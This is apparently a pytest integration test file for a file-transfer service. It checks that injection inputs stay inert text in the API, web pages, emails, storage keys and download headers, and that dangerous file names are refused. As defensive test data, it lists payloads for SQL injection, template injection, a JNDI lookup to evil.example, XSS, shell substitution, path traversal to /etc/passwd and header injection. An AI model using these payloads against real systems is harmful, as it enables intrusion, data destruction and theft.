"""Text that is code somewhere else: stays text in answers, pages, mails, keys and headers, or is refused."""

import json
import re
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest

from tests.integration.attacks.conftest import Person
from tests.integration.conftest import Inbox
from tests.integration.sender import Sender, described, path, token_in

HTML = {"Accept": "text/html"}
#: What an interpreter would take for its own: SQL, templates, lookups, expressions, markup, a shell, formulas.
CODE = (
    "'; DROP TABLE transfers;--",
    "{{99991*99989}}${99991*99989}#{99991*99989}<%= 99991*99989 %>",
    "${jndi:ldap://evil.example/a}",
    "__proto__",
    '"><img src=x onerror=alert(1)>',
    "</title><script>alert(1)</script>",
    "$(id)`id`|id",
    "=HYPERLINK(1)",
    "%n%s%x",
)
#: What a template that is filled in makes of the second: too long to be in an id or a time by chance.
PRODUCT = str(99991 * 99989)


class Page(HTMLParser):
    """The elements of a page, and the text that a reader sees."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.handlers: set[str] = set()
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.handlers |= {name for name, _ in attrs if name.startswith("on") or name == "src"}

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.fixture(scope="module")
def told(attacker: Person, inbox: Inbox) -> dict[str, Any]:
    """One transfer in which every text is all of it; what the API, the page and the mail make of it."""
    text = " ".join(CODE[:4])
    name = "".join(CODE[4:5] + CODE[6:]).replace("/", "")
    content = b"hello"
    address = f"grace-{attacker.subject}@example.com"
    file = described(content, name, path="'; DROP TABLE--")
    sender = Sender(attacker.api)
    transfer = sender.create(
        [file],
        title=text,
        message=f"{CODE[5]}\n{text}",
        tags={"__proto__": text, "constructor": CODE[5]},
        recipients=[{"email": address, "name": CODE[0]}],
    )
    sender.upload(transfer, 0, content)
    assert sender.finalize(transfer).status_code == 202
    ready = sender.until(transfer, "ready")
    mail = inbox.wait_for(address)
    return {"text": text, "name": name, "transfer": ready, "mail": mail, "link": token_in(mail)}


def test_code_in_every_field_comes_back_as_it_went(told: dict[str, Any]) -> None:
    transfer, text = told["transfer"], told["text"]

    assert transfer["title"] == text
    assert transfer["message"] == f"{CODE[5]}\n{text}"
    assert transfer["tags"] == {"__proto__": text, "constructor": CODE[5]}
    (file,), (recipient,) = transfer["files"], transfer["recipients"]
    assert (file["name"], file["path"]) == (told["name"], "'; DROP TABLE--")
    assert recipient["name"] == CODE[0]


def test_on_the_page_it_is_text(told: dict[str, Any], public: httpx.Client) -> None:
    answer = public.get(f"/t/{told['link']}", headers=HTML)
    page = Page(answer.text)

    assert told["text"] in page.text
    assert CODE[5] in page.text
    assert told["name"] in page.text
    assert "script" not in page.tags
    assert "img" not in page.tags
    assert page.handlers == set()
    assert "script-src" not in answer.headers["content-security-policy"]
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    assert PRODUCT not in answer.text


def test_in_the_mail_it_is_text_and_no_header(told: dict[str, Any], attacker: Person) -> None:
    mail = told["mail"]
    page = Page(mail["html"])

    assert "script" not in page.tags
    assert "img" not in page.tags
    assert page.handlers == set()
    assert "DROP TABLE transfers" in mail["text"].replace("\u200c", "")
    assert "evil.example" not in mail["text"]
    assert mail["to"] == [f"grace-{attacker.subject}@example.com"]
    assert (mail["cc"], mail["bcc"]) == ([], [])


def test_no_text_of_a_user_is_in_a_key_or_breaks_a_header(
    told: dict[str, Any], attacker: Person
) -> None:
    transfer = told["transfer"]
    made = attacker.api.post(f"{path(transfer, transfer['files'][0])}/downloads")
    url = httpx.URL(made.json()["url"])

    answer = httpx.get(url, trust_env=False, timeout=30)

    assert re.fullmatch(r"/[a-z0-9-]+/files/[a-z0-9]{26}/tr_[a-z0-9]+/fl_[a-z0-9]+", url.path)
    said = answer.headers["content-disposition"]
    assert re.fullmatch(
        r"attachment; filename=\"[A-Za-z0-9 ._()-]+\"; filename\*=UTF-8''[A-Za-z0-9%._~-]+", said
    )
    assert answer.content == b"hello"


REFUSED_NAMES = {
    "a way up": "../../etc/passwd",
    "a way up, for Windows": "..\\..\\boot.ini",
    "an absolute path": "/etc/passwd",
    "a drive": "C:\\x",
    "a NUL": "x.txt\0.exe",
    "a dot": ".",
    "two dots": "..",
    "blanks": "   ",
    "nothing": "",
    "too long": "a" * 256,
    "a turned direction": "photo\u202egpj.exe",
    "a line break": 'x"\r\nLocation: //evil.example',
    "a line separator": "x\u2028y",
    "half a surrogate": "\ud800",
}
#: Harmless as a name to show: the key has nothing of it, the header is encoded.
SHOWN_NAMES = {
    "an encoded way up": "..%2f..%2fetc%2fpasswd",
    "a device": "CON",
    "a stream": "a.txt:evil",
    "a dot at the end": "a.exe.",
    "dots of full width": "\uff0e\uff0e\uff0fetc",
    "a second parameter": "x\";filename*=UTF-8''a.exe",
    "a quote escaped": 'a\\"b'.replace("\\", ""),
    "percent signs": "%22%0d%0a",
    "markup": "<img src=x onerror=1>",
}


def _declare(person: Person, name: str) -> httpx.Response:
    body = {"files": [{"name": name, "size": 5, "content_type": "text/plain"}]}
    headers = {"Content-Type": "application/json"}
    return person.api.post("/transfers", content=json.dumps(body), headers=headers)


@pytest.mark.parametrize("kind", REFUSED_NAMES)
def test_a_name_that_could_be_a_path_or_a_header_is_refused(attacker: Person, kind: str) -> None:
    held = attacker.api.get("/usage").json()

    answer = _declare(attacker, REFUSED_NAMES[kind])

    assert (answer.status_code, answer.json()["code"]) == (400, "malformed")
    pointers = {error["pointer"] for error in answer.json()["errors"]}
    # Half a surrogate is no JSON before it is a name.
    assert pointers == ({""} if kind == "half a surrogate" else {"/files/0/name"})
    assert attacker.api.get("/usage").json() == held
    assert _declare(attacker, "plain.txt").status_code == 201


@pytest.mark.parametrize("kind", SHOWN_NAMES)
def test_a_name_that_only_looks_dangerous_is_shown_and_nothing_more(
    attacker: Person, kind: str
) -> None:
    name = SHOWN_NAMES[kind]

    made = _declare(attacker, name).json()

    (file,) = made["files"]
    assert file["name"] == name
    assert re.fullmatch(
        rf"inbox/[a-z0-9]{{26}}/{made['id']}/{file['id']}", file["upload"]["fields"]["key"]
    )


@pytest.mark.parametrize("folder", ["..", "a/../b", "/a", "a//b", "a/", "a\\b", "a/\u202e/b"])
def test_a_folder_leads_nowhere_else(attacker: Person, folder: str) -> None:
    file = {"name": "a", "size": 1, "content_type": "text/plain"}
    held = attacker.api.get("/usage").json()

    answer = attacker.api.post("/transfers", json={"files": [{**file, "path": folder}]})

    assert (answer.status_code, answer.json()["errors"][0]["pointer"]) == (400, "/files/0/path")
    assert attacker.api.get("/usage").json() == held
    right = attacker.api.post("/transfers", json={"files": [{**file, "path": "a/b"}]})
    assert right.status_code == 201
